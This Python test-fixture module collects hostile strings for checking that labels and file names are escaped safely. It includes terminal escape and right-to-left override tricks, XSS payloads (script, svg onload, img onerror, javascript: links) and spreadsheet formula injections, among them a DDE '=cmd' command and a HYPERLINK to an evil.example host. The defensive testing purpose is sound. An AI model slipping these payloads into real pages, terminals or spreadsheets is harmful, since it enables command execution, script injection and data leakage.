"""Texts as a stranger may write them: into the name of a file, a label, a line."""

from __future__ import annotations

import unicodedata

TERMINAL = "A\x1b[31m\x1b]0;title\x07\u202etxt.exe\r\nFAKE\u200b\x9b\u2028FAKE"
"""Escapes, a bell, a sign that turns the line round, ends of lines, what has no width."""

MARKDOWN = (
    "a|b",
    "a\\|b",
    "\\",
    "`",
    "x`y``z",
    "`://",
    "![x](/graphql?query=mutation{reloadWorkspace{__typename}})",
    "[x](y)",
    "![a][b]",
    "<http://evil.example>",
    "http://evil.example/x",
    "www.evil.example",
    "a@evil.example",
    "<svg onload=document.title='PWNED'>",
    "<script>document.title='PWNED'</script>",
    "<img src=http://127.0.0.1:9/x onerror=document.title='PWNED'>",
    "</style></title><script>document.title='PWNED'</script>",
    '"><a href=javascript:alert(1)>x</a>',
    "*b*",
    "_i_",
    "__init__",
    "~~s~~",
    "&lt;",
    "$x$",
    "# h",
    "one\ntwo",
    "\u05e9\u05dc\u05d5\u05dd",
    "\u202eturned",
    "\u65e5\u672c\u8a9e",
    "a" * 5_000,
    TERMINAL,
)
"""Labels that are something else wherever they are not taken for text."""

FORMULAS = (
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://evil.example/?x","C0")',
    "@SUM(A1)",
    "+1+1",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
    ' "=1+1',
    "\uff1d1+1",
    "a;=1+1",
    "'=1+1",
)
"""Texts that a spreadsheet would compute."""


def unseen(text: str) -> list[str]:
    """The signs of a text, but for ends of lines, that a terminal would obey or not show."""
    others = {sign for sign in text if unicodedata.category(sign) in ("Cc", "Cf", "Cs", "Zl", "Zp")}
    return sorted(map(ascii, others - {"\n"}))


def lines_of_their_own(text: str) -> list[str]:
    """Lines that begin with what stood behind an end of line in `TERMINAL`."""
    return [line for line in text.splitlines() if line.startswith("FAKE")]
